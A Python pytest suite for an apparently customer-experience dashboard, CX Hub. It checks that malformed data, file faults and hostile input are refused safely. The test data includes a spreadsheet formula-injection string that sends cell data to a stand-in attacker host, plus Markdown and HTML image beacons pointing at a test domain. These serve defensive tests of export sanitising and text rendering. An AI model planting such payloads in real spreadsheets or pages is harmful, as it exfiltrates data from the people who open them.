"""Hostile and broken input (data contract v2, "Plausible values and hostile
input"): each test is the attack itself — the file, the row, the URL, the
fault — and checks the clear refusal, that nothing was lost or half-written,
and that CX Hub still works afterwards."""

from __future__ import annotations

import errno
import io
import json
import shutil
import signal
import subprocess
import sys
import time
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cxhub import cli, db, exports, ingest, rollups
from cxhub.kpis import Period, scorecard
from cxhub.plaintext import chart, md

from fixtures import (HEADER, TOUCHPOINTS, app, assert_same_rows, build_judged, load, open_page, rows, snapshot,
                      texts, write)

ORDERS = "order_id,customer_id,touchpoint_id,ordered_at,amount\n"
HEALTH = "touchpoint_id,day,availability_pct,p95_latency_ms,error_rate_pct,incidents\n"
TARGETS = "kpi_id,touchpoint_id,target,amber_band\n"
TODAY = date.today()


@pytest.fixture
def base(tmp_path):
    path = tmp_path / "cx.duckdb"
    assert load(path, "touchpoints", write(tmp_path, "tp.csv", TOUCHPOINTS)).outcome == "loaded"
    return path


def rejected(path):
    return rows(path, "SELECT line, column_name, split_part(rule, ':', 1), row_key FROM rejected_rows ORDER BY line")


# ------------------------------------------------------------------ plausible values

def test_dates_outside_1900_to_tomorrow_are_refused_rule_date_range(base, tmp_path):
    next_year = (TODAY + timedelta(days=400)).isoformat()
    r = load(base, "orders", write(tmp_path, "o.csv", ORDERS + "o1,c1,web,2025-03-01 10:00:00,10\n"
                                   "o2,c1,web,0001-01-01 00:00:00,10\n"
                                   "o3,c1,web,9999-12-31 00:00:00,10\n"
                                   f"o4,c1,web,{next_year} 09:00:00,10\n"
                                   "o5,c1,web,1899-12-31 23:59:59,10\n"))
    assert (r.rows_loaded, r.rows_rejected) == (1, 4)
    assert rejected(base) == [(3, "ordered_at", "date_range", "o2"), (4, "ordered_at", "date_range", "o3"),
                              (5, "ordered_at", "date_range", "o4"), (6, "ordered_at", "date_range", "o5")]
    r = load(base, "system_health", write(tmp_path, "h.csv", HEALTH + "web,9999-12-31,99.9,300,0.1,0\n"
                                          "web,0044-03-15 (BC),99.9,300,0.1,0\n"))
    assert r.rows_loaded == 0 and {x[2] for x in rejected(base)} == {"date_range"}  # BC: year -43
    # what did load still gives every page its "last full month" from real data
    assert rows(base, "SELECT max(ordered_at)::DATE FROM orders") == [(date(2025, 3, 1),)]


def test_nan_and_infinity_are_refused_rule_not_finite(base, tmp_path):
    r = load(base, "interactions", write(tmp_path, "i.csv", HEADER + "i1,c1,web,2025-03-01,,,NaN\n"
                                         "i2,c1,web,2025-03-01,,,inf\ni3,c1,web,2025-03-01,,,-Infinity\n"
                                         "i4,c1,web,2025-03-01,,,12.5\n"))
    assert r.rows_loaded == 1 and [x[2] for x in rejected(base)] == ["not_finite"] * 3
    r = load(base, "system_health", write(tmp_path, "h.csv", HEALTH + "web,2025-03-01,99.9,nan,0.1,0\n"))
    assert r.rows_rejected == 1 and rows(base, "SELECT column_name, split_part(rule, ':', 1) FROM rejected_rows "
                                         "WHERE table_name = 'system_health'") == [("p95_latency_ms", "not_finite")]
    r = load(base, "kpi_targets", write(tmp_path, "t.csv", TARGETS + "csat,,Infinity,\nnps,,30,-inf\n"))
    assert r.rows_loaded == 0 and r.rows_rejected == 2


def test_amounts_are_stored_exactly_up_to_four_places_never_rounded(base, tmp_path):
    r = load(base, "orders", write(tmp_path, "o.csv", ORDERS + "o1,c1,web,2025-03-01,10.1234\n"
                                   "o2,c1,web,2025-03-01,10.12345\no3,c1,web,2025-03-01,1e-5\n"
                                   "o4,c1,web,2025-03-01,10.50000\n"))
    assert (r.rows_loaded, r.rows_rejected) == (2, 2)
    assert [x[2] for x in rejected(base)] == ["precision", "precision"]
    assert rows(base, "SELECT order_id, amount FROM orders ORDER BY 1") == [("o1", Decimal("10.1234")),
                                                                          ("o4", Decimal("10.5000"))]


# ------------------------------------------------------------------ JSON lines

def test_json_lines_nested_values_quotes_and_line_numbers(base, tmp_path):
    text = (json.dumps({"response_id": "r1", "touchpoint_id": "web", "responded_at": "2025-03-01T10:00:00",
                        "csat": 5, "comment": "plain \"quoted\" words"}) + "\n\n"
            + json.dumps({"response_id": "r2", "touchpoint_id": "web", "responded_at": "2025-03-01T10:00:00",
                          "csat": 4, "comment": {"text": "nested"}}) + "\n"
            + json.dumps({"response_id": "r3", "touchpoint_id": ["web"], "responded_at": "2025-03-01T10:00:00",
                          "nps": 9}) + "\n")
    r = load(base, "surveys", write(tmp_path, "s.jsonl", text))
    assert (r.rows_read, r.rows_loaded, r.rows_rejected) == (3, 1, 2)
    # the file's own line numbers (line 2 is blank), one rule each, with the row's key
    assert rejected(base) == [(3, "comment", "not_scalar", "r2"), (4, "touchpoint_id", "not_scalar", "r3")]
    assert rows(base, "SELECT comment FROM surveys") == [('plain "quoted" words',)]


def test_a_nested_value_elsewhere_does_not_garble_the_touchpoint(base, tmp_path):
    line = {"interaction_id": "i1", "touchpoint_id": "web", "occurred_at": "2025-03-01T10:00:00",
            "intent": {"a": 1}}
    r = load(base, "interactions", write(tmp_path, "i.jsonl", json.dumps(line) + "\n"))
    assert r.rows_rejected == 1 and rejected(base) == [(1, "intent", "not_scalar", "i1")]  # not "unknown touchpoint"


# ------------------------------------------------------------------ files

def test_a_file_named_with_a_star_is_read_as_itself(base, tmp_path):
    write(tmp_path, "a.csv", HEADER + "sibling,c1,web,2025-03-01,,,\n")
    starred = write(tmp_path, "*.csv", HEADER + "i1,c1,web,2025-03-01,,,\n")
    r = load(base, "interactions", starred)
    assert r.rows_loaded == 1 and rows(base, "SELECT interaction_id FROM interactions") == [("i1",)]


def test_reimporting_a_file_replaces_its_rejects(base, tmp_path):
    f = write(tmp_path, "i.csv", HEADER + "i1,c1,web,2025-03-01,,,-5\ni2,c1,fax,2025-03-01,,,\n")
    load(base, "interactions", f)
    load(base, "interactions", f)
    assert len(rejected(base)) == 2
    f.write_text(HEADER + "i1,c1,web,2025-03-01,,,5\ni2,c1,web,2025-03-01,,,\n")  # fixed at the source
    load(base, "interactions", f)
    assert rejected(base) == []
    listed = ingest.rejects(db.connect(base, read_only=True))
    assert "row_key" in listed.columns


@pytest.mark.parametrize("content, says", [
    ("\ufeffinteraction_id,touchpoint_id\n".encode("utf-16"), "UTF-16 encoded; save it as UTF-8"),
    ("interaction_id,touchpoint_id,occurred_at\ni1,web,2025-03-01\n".encode("utf-16-le"), "UTF-16 encoded"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary data, not CSV text"),
])
def test_utf16_and_binary_files_get_the_real_reason(base, tmp_path, content, says):
    before = snapshot(base)
    r = load(base, "interactions", write(tmp_path, "i.csv", content))
    assert r.outcome == "refused" and says in r.message
    assert snapshot(base) == before


def test_a_parquet_name_on_other_bytes_is_refused(base, tmp_path):
    r = load(base, "interactions", write(tmp_path, "i.parquet", HEADER))
    assert r.outcome == "refused" and "not a Parquet file" in r.message


# ------------------------------------------------------------------ exports

FORMULA = '=HYPERLINK("http://attacker.test/?"&A1,"click")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_safe_cell_neutralises_what_a_spreadsheet_would_run(cell):
    assert exports.safe_cell(cell) == "'" + cell
    assert exports.safe_cell("plain") == "plain" and exports.safe_cell(-2.5) == -2.5


def test_no_live_formula_in_csv_or_excel(tmp_path):
    frame = pd.DataFrame({"segment": [FORMULA, "smb"], "value": [-1.5, 2.0]})
    text = exports.to_csv(frame).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
    book = openpyxl.load_workbook(io.BytesIO(exports.to_excel({"Sheet": frame})))
    cells = [c for row in book["Sheet"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"], "no formula cell"
    assert book["Sheet"]["A2"].value == "'" + FORMULA and book["Sheet"]["B2"].value == -1.5


def test_rejects_csv_from_the_cli_is_safe(base, tmp_path):
    load(base, "customers", write(tmp_path, "c.csv", "customer_id,signup_date,segment,region\n"
                                  f'c1,not-a-date,"{FORMULA.replace(chr(34), chr(34) * 2)}",North\n'))
    out = tmp_path / "rejects.csv"
    assert cli.main(["rejects", "--db", str(base), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text and not any(field.startswith("=") for line in text.splitlines()
                                            for field in line.split(","))


# ------------------------------------------------------------------ screens

BEACON = "Web ![x](http://beacon.test/x.png) **now** :red[alert] <img src=http://beacon.test/y.png>"


def test_markdown_and_chart_text_are_shown_as_text():
    assert "![x](" not in md(BEACON) and "**" not in md(BEACON) and ":red[" not in md(BEACON)
    assert "<img" not in chart(BEACON) and "&lt;img" in chart(BEACON)


@pytest.fixture
def hostile_db(tmp_path):
    """The judged company, with a touchpoint named like an image beacon, a
    touchpoint whose id is one of the app's page names, and hostile joint work."""
    from cxhub import joint, workspace

    path = tmp_path / "hostile.duckdb"
    con = build_judged(path)
    with con.cursor() as cur:
        cur.execute("UPDATE touchpoints SET name = ? WHERE touchpoint_id = 'web'", [BEACON])
        cur.execute("INSERT INTO touchpoints VALUES ('data', 'Data ![d](http://beacon.test/d.png)', 'digital', 'CIO')")
    who = joint.Person("Eve ![e](http://beacon.test/e.png)", "CMO")
    ws = workspace.connect(workspace.path_for(path))
    joint.add_decision(ws, date(2025, 4, 10), "Fund ![f](http://beacon.test/f.png) **now**", who)
    joint.create_initiative(ws, {"title": "![t](http://beacon.test/t.png)", "owner": "CMO", "cost_band": "S",
                                  "expected_effect": "+5 pts :red[csat]", "status": "in progress",
                                  "started_on": "2025-03-01", "kpi_ids": ["csat"]}, who, known_touchpoints=["web", "contact_center", "store", "data"])
    ws.close()
    con.close()
    return path


def _markdown_sources(at) -> list[str]:
    """Every text AppTest holds that Streamlit reads as Markdown."""
    out = []
    for kind in ("markdown", "caption", "title", "header", "subheader", "info", "warning", "error", "success"):
        out += [str(e.value) for e in getattr(at, kind)]
    out += [str(m.label) for m in at.metric] + [str(e.label) for e in at.expander]
    return out


@pytest.mark.parametrize("url_path", ["overview", "channels", "priorities", "meeting", "data", "glossary",
                                      "touchpoint-web", "touchpoint-data"])
def test_no_page_reads_data_text_as_markdown(hostile_db, monkeypatch, url_path):
    at = app(hostile_db, monkeypatch, {"period": "custom", "start": "2025-03-01", "end": "2025-03-31"})
    at = open_page(at, url_path)
    assert not at.exception, at.exception
    for text in _markdown_sources(at):
        assert "](http://beacon" not in text.replace("\\]", ""), text
        assert "![" not in text.replace("!\\[", ""), text
    if url_path == "touchpoint-web":
        assert md(BEACON) in texts(at)  # the name is there, as text


def test_a_touchpoint_with_a_page_name_as_id_takes_nothing_down(hostile_db, monkeypatch):
    at = app(hostile_db, monkeypatch)
    assert not at.exception
    # Both pages, apart: the app's Data page and the touchpoint's own page.
    assert "Data & freshness" in [e.value for e in open_page(at, "data").title]
    assert md("Data ![d](http://beacon.test/d.png)") in [e.value for e in open_page(at, "touchpoint-data").title]


# ------------------------------------------------------------------ URLs

@pytest.mark.parametrize("params", [
    {"period": "custom", "start": "0001-01-01", "end": "9999-12-31"},
    {"period": "custom", "start": "2025-13-45", "end": "yesterday"},
    {"period": "forever", "grain": "century", "segment": "=HYPERLINK(1)"},
])
def test_a_bad_link_gives_a_notice_and_the_default(judged_db_path, monkeypatch, params):
    at = app(judged_db_path, monkeypatch, params)
    assert not at.exception, at.exception
    notice = " ".join(w.value for w in at.sidebar.warning)
    assert "Ignored from the link" in notice
    assert at.metric, "the Overview still shows its scorecard"


def test_a_bad_meeting_date_in_the_link(judged_db_path, monkeypatch):
    at = open_page(app(judged_db_path, monkeypatch), "meeting")
    at.query_params["date"] = "9999-12-31"
    at = at.run()
    assert not at.exception and "Ignored from the link: date=9999-12-31" in " ".join(w.value for w in at.warning)


# ------------------------------------------------------------------ faults

def test_disk_full_while_copying_is_named_and_leaves_nothing(base, tmp_path, monkeypatch):
    before = snapshot(base)

    def full(src, dst, *args, **kwargs):
        Path(dst).write_bytes(b"partial")
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(shutil, "copyfile", full)
    with pytest.raises(db.DiskFull, match="the disk holding .* is full"):
        load(base, "interactions", write(tmp_path, "i.csv", HEADER + "i1,c1,web,2025-03-01,,,\n"))
    monkeypatch.undo()
    assert snapshot(base) == before
    assert not list(tmp_path.glob(".*.writing*")), "no partial copy left behind"


def test_disk_full_from_the_cli_exits_5(base, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(shutil, "copyfile", lambda *a, **k: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
    code = cli.main(["import", "interactions", str(write(tmp_path, "i.csv", HEADER + "i1,c1,web,2025-03-01,,,\n")),
                     "--db", str(base)])
    assert code == cli.EXIT_DATABASE and "is full" in capsys.readouterr().err


@pytest.mark.parametrize("damage", ["truncate", "garbage"])
def test_a_damaged_database_is_named_not_the_file(judged_db_path, tmp_path, capsys, damage):
    if damage == "truncate":
        size = judged_db_path.stat().st_size
        with open(judged_db_path, "r+b") as f:
            f.truncate(size // 2)
    else:
        judged_db_path.write_bytes(b"\x00garbage" * 5000)
    before = judged_db_path.read_bytes()
    code = cli.main(["import", "orders", str(write(tmp_path, "o.csv", ORDERS + "o1,c1,web,2025-03-01,1\n")),
                     "--db", str(judged_db_path)])
    err = capsys.readouterr().err
    assert code == cli.EXIT_DATABASE and "is damaged" in err and "o.csv" not in err
    assert judged_db_path.read_bytes() == before  # never swapped in
    assert not list(judged_db_path.parent.glob(".*.writing*"))


def test_a_killed_writers_copy_is_cleaned_at_the_next_start(judged_db_path):
    stale = judged_db_path.with_name(f".{judged_db_path.name}.999999999.writing")
    stale.write_bytes(b"left by a killed import")
    db.open_snapshot(judged_db_path).close()
    assert not stale.exists()


# ------------------------------------------------------------------ CLI and server

def test_an_unknown_segment_exits_2_naming_the_valid_ones(judged_db_path, capsys):
    code = cli.main(["kpis", "--db", str(judged_db_path), "--start", "2025-03-01", "--end", "2025-03-31",
                     "--segment", "smbb"])
    assert code == 2 and "unknown segment smbb; known: consumer, smb" in capsys.readouterr().err


def test_serve_binds_this_machine_by_default():
    args = cli.parser().parse_args(["serve"])
    command = cli.serve_command(args)
    assert command[command.index("--server.address") + 1] == "127.0.0.1"
    args = cli.parser().parse_args(["serve", "--host", "0.0.0.0", "--port", "9000"])
    assert "0.0.0.0" in cli.serve_command(args) and "9000" in cli.serve_command(args)


def test_sigterm_stops_the_server_with_cxhub(judged_db_path, tmp_path):
    port = 8700 + int(time.time()) % 200
    proc = subprocess.Popen([sys.executable, "-m", "cxhub.cli", "serve", "--db", str(judged_db_path),
                             "--port", str(port)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.time() + 60
        children = []
        while time.time() < deadline and not children:
            time.sleep(0.5)
            out = subprocess.run(["pgrep", "-P", str(proc.pid)], capture_output=True, text=True).stdout
            children = [int(p) for p in out.split()]
        assert children, "streamlit started"
        time.sleep(2)
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
        for pid in children:
            assert not Path(f"/proc/{pid}").exists() or "zombie" in Path(f"/proc/{pid}/status").read_text().lower()
    finally:
        if proc.poll() is None:
            proc.kill()


# ------------------------------------------------------------------ incremental rollups

def _rollup_rows(path, name):
    return rows(path, f"SELECT * FROM {name}")


def _rebuilt_rows(path, name):
    rollup = next(r for r in rollups.ROLLUPS if r.name == name)
    return rows(path, rollup.select())


def test_an_import_refreshes_only_what_it_touched_and_gives_a_full_rebuilds_rows(base, tmp_path, monkeypatch):
    monkeypatch.setattr(rollups, "FULL_REBUILD_SHARE", 1.0)  # always the partial path once there is data

    def loaded(table, name, text):
        assert load(base, table, write(tmp_path, name, text)).rows_rejected == 0
        for rollup in rollups.ROLLUPS:  # after every import, every rollup as a rebuild from scratch has it
            assert_same_rows(_rollup_rows(base, rollup.name), _rebuilt_rows(base, rollup.name), (name, rollup.name))

    lines = [f"i{n},c{n % 9},{'contact_center' if n % 3 else 'web'},2025-03-{1 + n % 28:02d} {n % 24:02d}:00:00,"
             f"billing,{'true' if n % 4 else 'false'}," for n in range(300)]
    loaded("interactions", "i1.csv", HEADER + "\n".join(lines) + "\n")
    loaded("customers", "c1.csv", "customer_id,signup_date,segment,region\n"
                                  + "".join(f"c{n},2024-01-01,smb,North\n" for n in range(5)))
    # a second day's export: new contacts, one replacing an old one, a customer coming back within 7 days
    loaded("interactions", "i2.csv", HEADER + "i7,c7,web,2025-03-09 10:00:00,billing,true,\n"
                                     "n1,c1,web,2025-03-10 08:00:00,support,,\nn2,,web,2025-03-30 08:00:00,,true,\n")
    loaded("customers", "c2.csv", "customer_id,signup_date,segment,region\nc2,2024-01-01,consumer,South\n")
    loaded("orders", "o1.csv", ORDERS + "".join(
        f"o{n},c{n % 7},web,2025-0{1 + n % 3}-{1 + n % 27:02d} 10:00:00,{n}\n" for n in range(60)))
    loaded("orders", "o2.csv", ORDERS + "o3,c3,web,2025-02-15 10:00:00,5\no99,c1,web,2025-03-20,7\n")
    surveys = "response_id,customer_id,touchpoint_id,responded_at,nps,csat,ces,comment\n"
    loaded("surveys", "s1.csv", surveys + "".join(
        f"r{n},c{n % 8},web,2025-0{2 + n % 2}-{1 + n % 27:02d} 12:00:00,{n % 11},,,\n" for n in range(40)))
    # what answers, months and their buyers saw changes: an order and a contact before answers, an
    # April order (one of March's buyers came back), a customer moving segment
    loaded("orders", "o3.csv", ORDERS + "o100,c2,contact_center,2025-02-28 09:00:00,3\n")
    loaded("orders", "o4.csv", ORDERS + "o101,c4,web,2025-04-02 09:00:00,8\n")
    loaded("interactions", "i3.csv", HEADER + "n3,c3,web,2025-03-01 08:00:00,billing,false,\n")
    loaded("customers", "c3.csv", "customer_id,signup_date,segment,region\n"
                                  "c3,2024-01-01,enterprise,West\nc6,2024-02-01,smb,South\n")
    # an answer that loses its customer, one that moves to another, a new one
    loaded("surveys", "s2.csv", surveys + "r1,,web,2025-03-02 12:00:00,5,,,\nr2,c5,web,2025-02-03 12:00:00,9,,,\n"
                                          "r99,c3,contact_center,2025-03-05 12:00:00,2,,,\n")


def test_one_customers_200000_contacts_refresh_in_seconds(base, tmp_path):
    """A bot or a test account: a pairwise search for the repeat contact would
    take minutes on this; sorting each customer's contacts takes a moment."""
    con = db.connect(base)
    con.execute("""INSERT INTO interactions SELECT 'b' || i, 'bot', 'contact_center',
                   TIMESTAMP '2025-01-01' + i * INTERVAL 2 MINUTE, 'billing', true, 1 FROM range(200000) t(i)""")
    started = time.monotonic()
    rollups.refresh(con, "interactions")
    took = time.monotonic() - started
    n = con.execute("SELECT sum(interactions), sum(first_contact) FROM interaction_days").fetchall()[0]
    con.close()
    assert n == (200000, 1)  # each is followed by another within 7 days, but the last
    assert took < 60


# ------------------------------------------------------------------ fuzz

CELL = st.one_of(st.text(max_size=12), st.sampled_from(["NaN", "inf", "-inf", "=1+1", "@x", "9999-12-31", "0",
                                                         "-1", "1e309", "true", "", " ", "\"", ",", "\n"]))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(st.tuples(CELL, CELL, CELL, CELL), min_size=1, max_size=6))
def test_random_rows_go_through_import_render_export_and_json(base, tmp_path, cells):
    import csv

    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["order_id", "customer_id", "touchpoint_id", "ordered_at", "amount"])
    for a, b, c, d in cells:
        writer.writerow([a, b, "web", c, d])
    r = load(base, "orders", write(tmp_path, "fuzz.csv", buf.getvalue()))
    assert r.outcome in ("loaded", "partial", "refused")
    con = db.connect(base, read_only=True)
    try:
        card = scorecard(con, Period(date(2025, 1, 1), date(2025, 12, 31)))
        listed = ingest.rejects(con)
    finally:
        con.close()
    doc = cli.kpi_records(card)
    json.dumps(doc, allow_nan=False)  # strict JSON
    for frame in (listed, card):
        text = exports.to_csv(frame).decode("utf-8-sig")
        assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())
        book = openpyxl.load_workbook(io.BytesIO(exports.to_excel({"S": frame})))
        assert not [c for row in book["S"].iter_rows() for c in row if c.data_type == "f"]


def test_disk_full_while_loading_is_named_not_the_file(base, tmp_path, monkeypatch):
    import duckdb

    before = snapshot(base)

    def full(*args, **kwargs):
        raise duckdb.IOException('Could not write file "cx.duckdb": No space left on device')
    monkeypatch.setattr(ingest, "_validate_and_load", full)
    with pytest.raises(db.DiskFull):
        load(base, "interactions", write(tmp_path, "i.csv", HEADER + "i1,c1,web,2025-03-01,,,\n"))
    assert snapshot(base) == before and not list(tmp_path.glob(".*.writing*"))


@pytest.mark.parametrize("url_path", ["overview", "touchpoint-web", "meeting", "priorities"])
def test_a_far_future_row_from_before_the_rules_breaks_no_page(judged_db_path, monkeypatch, url_path):
    """A database loaded before contract v2 may hold a 9999-12-31 health row."""
    con = db.connect(judged_db_path)
    con.execute("INSERT INTO system_health VALUES ('web', DATE '9999-12-31', 99.0, 100, 0, 0)")
    con.close()
    at = open_page(app(judged_db_path, monkeypatch), url_path)
    assert not at.exception, at.exception


def test_an_unreadable_file_is_refused_with_its_reason(base, tmp_path, monkeypatch):
    f = write(tmp_path, "i.csv", HEADER + "i1,c1,web,2025-03-01,,,\n")

    def denied(path):
        raise PermissionError(errno.EACCES, "Permission denied")
    monkeypatch.setattr(ingest, "file_checksum", denied)
    r = load(base, "interactions", f)
    assert r.outcome == "refused" and "cannot be read (Permission denied)" in r.message


def test_the_app_shows_no_tracebacks_and_listens_on_this_machine():
    import tomllib

    config = tomllib.loads((Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorDetails"] in ("type", "none")  # the traceback goes to the log only
    assert config["server"]["address"] == "127.0.0.1"
